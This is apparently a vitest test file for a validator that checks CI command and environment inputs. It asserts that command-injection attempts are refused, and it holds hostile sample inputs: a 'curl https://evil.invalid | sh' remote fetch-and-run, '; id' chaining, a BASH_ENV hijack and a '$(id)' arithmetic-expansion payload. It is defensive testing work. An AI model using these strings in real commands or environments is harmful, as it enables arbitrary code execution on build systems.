import { expect, it } from "vitest";
import { command, hidings, rules, secretOf } from "./resources";

it.each<[string, object]>([
  ["another command", { create: "curl https://evil.invalid | sh" }],
  ["our command and more", { create: "bash infra/ready/wait-for-gate.sh; id" }],
  ["a command at the end", { delete: "id" }],
  ["another interpreter", { interpreter: ["sh", "-c", "id"] }],
  ["another folder", { dir: "/tmp/evil" }],
  [
    "a command to ask with that is not the backend's",
    { environment: { READY_PROGRESS: "bash infra/vm/progress.sh a; id" } },
  ],
  [
    "a number that bash runs as it counts with it",
    { environment: { READY_TIMEOUT_MINUTES: "GATE_HOST[$(id)0]" } },
  ],
  ["a variable that bash obeys", { environment: { BASH_ENV: "/tmp/evil" } }],
  ["an environment that nobody can look into", { environment: "[secret]" }],
  [
    "a marked environment with a variable that bash obeys",
    { environment: secretOf({ BASH_ENV: "/tmp/evil" }) },
  ],
  ...hidings.map(([how, hidden]): [string, object] => [
    `a progress command ${how}`,
    { environment: { READY_PROGRESS: hidden } },
  ]),
])("refuses %s", { tags: "attack/ci" }, (_, inputs) =>
  expect(new Set(rules(command(inputs)))).toEqual(new Set(["command"])),
);

it("lets the command that waits pass", () => {
  const environment = {
    GATE_HOST: "h",
    READY_TIMEOUT_MINUTES: "20",
    READY_PROGRESS: "bash infra/vm/progress.sh a-project a-zone monitoring-dev",
  };
  expect(rules(command({ environment, triggers: ["x"] }))).toEqual([]);
});
